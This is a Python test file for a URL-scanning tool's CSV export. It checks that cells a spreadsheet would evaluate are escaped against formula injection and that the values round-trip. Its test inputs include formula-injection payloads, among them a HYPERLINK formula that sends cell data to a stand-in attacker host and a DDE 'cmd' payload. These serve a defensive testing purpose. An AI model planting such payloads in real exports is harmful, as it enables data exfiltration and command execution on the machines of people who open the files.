"""CSV formula injection: every CSV this package writes escapes cells a spreadsheet would evaluate (OWASP),
reads them back unchanged, and Parquet / JSON lines keep the raw values."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pyarrow as pa
import pytest
from fixtures_model import model_dir  # noqa: F401
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from cybersentinel.cli.app import app
from cybersentinel.core.csv_cells import csv_text, escape_cell, escape_table, unescape_cell
from cybersentinel.ops.blocklist import read_scored

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\tx", "\rx", "'=already quoted"]


@pytest.mark.parametrize("value", HOSTILE)
def test_cells_a_spreadsheet_would_evaluate_get_a_quote_and_read_back(value):
    escaped = escape_cell(value)
    assert escaped.startswith("'") and unescape_cell(escaped) == value
    assert escape_cell("https://example.org/a=b") == "https://example.org/a=b"


@given(st.text(max_size=12))
def test_escaping_round_trips_and_never_starts_with_a_formula_character(value):
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")


@given(st.lists(st.text(max_size=8), min_size=1, max_size=6))
def test_the_arrow_writer_and_the_python_writer_apply_the_same_rule(values):
    table = escape_table(pa.table({"v": pa.array(values, type=pa.string())}))
    assert table["v"].to_pylist() == [escape_cell(v) for v in values]


def test_text_kept_as_a_dictionary_or_as_views_is_escaped_too():
    """A pandas Categorical saved to Parquet is read back as a dictionary column: it was written to CSV raw."""
    table = escape_table(pa.table({"cat": pa.array(["=cmd|' /C calc'!A0", "x"]).dictionary_encode(),
                                   "view": pa.array(["@SUM(1+1)", "y"], pa.string_view()), "n": [1, 2]}))
    assert table["cat"].to_pylist() == ["'=cmd|' /C calc'!A0", "x"] and table["view"].to_pylist() == ["'@SUM(1+1)", "y"]
    assert table["n"].to_pylist() == [1, 2]


def test_csv_text_quotes_every_cell():
    text = csv_text(["a", "=b"], [["-1", "x"]])
    assert text == "\"a\",\"'=b\"\n\"'-1\",\"x\"\n"


def test_predict_csv_escapes_and_parquet_and_jsonl_keep_raw_values(model_dir, tmp_path):  # noqa: F811
    source = tmp_path / "in.csv"
    with open(source, "w", newline="") as handle:
        csv.writer(handle).writerows([["=note", "url"], *[[v, v] for v in HOSTILE]])
    args = ["predict", "-i", str(source), "--model-dir", str(model_dir), "--no-feeds"]
    for out in ("out.csv", "out.parquet", "out.jsonl"):
        result = CliRunner().invoke(app, [*args, "-o", str(tmp_path / out)])
        assert result.exit_code == 0, result.output
    with open(tmp_path / "out.csv", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][:2] == ["'=note", "url"] and len(rows) == 1 + len(HOSTILE)
    for row in rows:
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
    assert [unescape_cell(r[1]) for r in rows[1:]] == HOSTILE
    assert pd.read_parquet(tmp_path / "out.parquet")["url"].tolist() == HOSTILE
    assert [json.loads(line)["url"] for line in (tmp_path / "out.jsonl").read_text().splitlines()] == HOSTILE
    # `blocklist export` reads predict's CSV back to the original values
    assert read_scored(tmp_path / "out.csv")["url"].tolist() == HOSTILE


def test_blocklist_export_escapes_rejected_and_blocklist_csv(tmp_path):
    scored = tmp_path / "scored.jsonl"
    rows = [{"url": v, "verdict": "malicious", "score": 0.99, "reasons": "=1+1"} for v in HOSTILE]
    rows.append({"url": "evil.phish-kit.top", "verdict": "malicious", "score": 0.99, "reasons": "@SUM(A1)"})
    scored.write_text("".join(json.dumps(r) + "\n" for r in rows))
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["blocklist", "export", str(scored), "-o", str(out), "-f", "csv"])
    assert result.exit_code == 0, result.output
    def rows_of(name: str) -> list[dict[str, str]]:
        with open(out / name, newline="") as handle:  # a bare CR inside a cell stays one
            return list(csv.DictReader(handle))

    for name in ("rejected.csv", "blocklist.csv"):
        cells = [cell for row in rows_of(name) for cell in (*row, *row.values())]
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in cells), (name, cells)
    rejected = rows_of("rejected.csv")
    assert sorted(unescape_cell(r["value"]) for r in rejected) == sorted(HOSTILE)
    blocked = rows_of("blocklist.csv")
    assert blocked[0]["value"] == "evil.phish-kit.top" and blocked[0]["reasons"] == "'@SUM(A1)"
